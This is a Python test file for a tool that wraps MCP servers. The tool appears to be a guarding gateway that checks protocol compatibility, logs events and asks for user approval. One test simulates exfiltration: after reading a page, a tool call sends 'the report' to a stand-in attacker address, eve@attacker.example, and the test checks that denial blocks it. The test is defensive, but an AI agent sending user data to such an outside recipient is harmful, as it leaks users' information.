"""`bartizan mcp wrap` between the official SDK's client and servers of the SDK and of FastMCP, in every era."""

from __future__ import annotations

import asyncio
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest
from mcp import Client, MCPDeprecationWarning, MCPError, StdioServerParameters
from mcp.client.context import ClientRequestContext
from mcp.client.session import ElicitationFnT
from mcp.types import ElicitRequestFormParams, ElicitRequestParams, ElicitResult, PromptReference, TextContent

SERVERS = Path(__file__).resolve().parents[1] / "guard" / "gateway" / "mcp"
SDK = [sys.executable, str(SERVERS / "sdk_server.py")]
RAW = [sys.executable, "-S", str(SERVERS / "raw_server.py")]
ATTACKER = "eve@attacker.example"


def wrapped(folder: Path, server: list[str], *options: str) -> StdioServerParameters:
    """Return how a client starts a server behind the command."""
    arguments = ["-m", "bartizan.cli", "mcp", "wrap", "--events", str(folder / "events"), *options, "--", *server]
    environment = {"XDG_STATE_HOME": str(folder / "state"), "XDG_CACHE_HOME": os.environ["XDG_CACHE_HOME"]}
    return StdioServerParameters(command=sys.executable, args=arguments, env=environment, cwd=folder)


def said(result: Any) -> str:
    (content,) = result.content
    assert isinstance(content, TextContent)
    return content.text


def test_every_era_of_the_sdk_goes_through(tmp_path: Path) -> None:
    async def work() -> None:
        modes = ("auto", "legacy", "2026-07-28")
        for mode in modes:
            (tmp_path / mode).mkdir()
        await asyncio.gather(*(_everything(tmp_path / mode, mode) for mode in modes))

    asyncio.run(work())


async def _everything(folder: Path, mode: Any) -> None:
    async def answered(context: ClientRequestContext, params: ElicitRequestParams) -> ElicitResult:
        del context
        assert isinstance(params, ElicitRequestFormParams)
        ours = "decision" in params.requested_schema["properties"]
        return ElicitResult(action="accept", content={"decision": "approve"} if ours else {"colour": "blue"})

    steps: list[float] = []

    async def moved(progress: float, total: float | None, message: str | None) -> None:
        del total, message
        steps.append(progress)

    async with Client(wrapped(folder, SDK), mode=mode, elicitation_callback=answered) as client:
        assert client.protocol_version == ("2025-11-25" if mode == "legacy" else "2026-07-28")
        tools = {tool.name for tool in (await client.list_tools()).tools}
        assert {"get_note", "list_numbers", "read_slowly", "get_colour"} <= tools
        if mode == "legacy":
            assert said(await client.call_tool("get_colour")) == "accept: blue"
            with pytest.warns(MCPDeprecationWarning):
                await client.send_ping()
        else:
            assert said(await client.call_tool("get_note", {"name": "x"})) == "the note x"
        assert (await client.call_tool("list_numbers", {"count": 3})).structured_content == {"result": [0, 1, 2]}
        assert said(await client.call_tool("read_slowly", {"steps": 3}, progress_callback=moved)) == "3 steps"
        assert steps == [1.0, 2.0, 3.0]
        assert (await client.call_tool("get_trouble")).is_error
        assert [str(one.uri) for one in (await client.list_resources()).resources] == ["note://welcome"]
        assert "welcome to the office" in str(await client.read_resource("note://welcome"))
        assert "note zed" in str(await client.read_resource("note://by-name/zed"))
        assert [one.name for one in (await client.list_prompts()).prompts] == ["summary"]
        assert "Summarise n" in str(await client.get_prompt("summary", {"name": "n"}))
        completed = await client.complete(PromptReference(name="summary"), {"name": "name", "value": "al"})
        assert completed.completion.values == ["alpha"]
        with pytest.raises(MCPError, match="nothing of this name"):
            await client.call_tool("no_such_tool")
        with pytest.raises(MCPError, match="timed out"):
            await client.call_tool("read_forever", read_timeout_seconds=0.2)
        assert (await client.call_tool("list_numbers", {"count": 1})).structured_content == {"result": [0]}
    kinds = [event["kind"] for event in _events(folder)]
    assert kinds.count("tool-call") >= 6
    assert "server-ended" in [event["rule"] for event in _events(folder)]


@pytest.mark.parametrize("mode", ["legacy", "auto"])
def test_a_client_that_can_asks_its_own_user(mode: Any, tmp_path: Path) -> None:
    shown: list[str] = []

    def answering(choice: str) -> ElicitationFnT:
        async def elicit(context: ClientRequestContext, params: ElicitRequestParams) -> ElicitResult:
            del context
            shown.append(params.message)
            return ElicitResult(action="accept", content={"decision": choice})

        return elicit

    async def work(choice: str) -> bool:
        async with Client(wrapped(tmp_path, RAW), mode=mode, elicitation_callback=answering(choice)) as client:
            await client.call_tool("read_page", {"about": "x"})
            result = await client.call_tool("send_message", {"to": ATTACKER, "text": "the report"})
            return not result.is_error

    assert asyncio.run(work("approve")) is True
    assert asyncio.run(work("deny")) is False
    assert len(shown) == 2
    assert all(ATTACKER in message for message in shown)
    decided = [(event["kind"], event["decision"]) for event in _events(tmp_path) if event["kind"] == "approval"]
    assert decided == [("approval", "allow"), ("approval", "deny")]


def test_a_server_of_fastmcp_goes_through(tmp_path: Path) -> None:
    program = tmp_path / "server.py"
    program.write_text(
        "from fastmcp import FastMCP\n"
        "server = FastMCP('notes')\n"
        "@server.tool\n"
        "def get_note(name: str) -> dict:\n"
        "    'Get a note.'\n"
        "    return {'name': name}\n"
        "server.run('stdio', show_banner=False)\n"
    )

    async def work() -> None:
        async with Client(wrapped(tmp_path, [sys.executable, "server.py"])) as client:
            assert (await client.call_tool("get_note", {"name": "x"})).structured_content == {"name": "x"}

    asyncio.run(work())


def _events(folder: Path) -> list[dict[str, Any]]:
    lines = b"".join(file.read_bytes() for file in sorted((folder / "events").glob("*.jsonl"))).splitlines()
    return [json.loads(line) for line in lines]
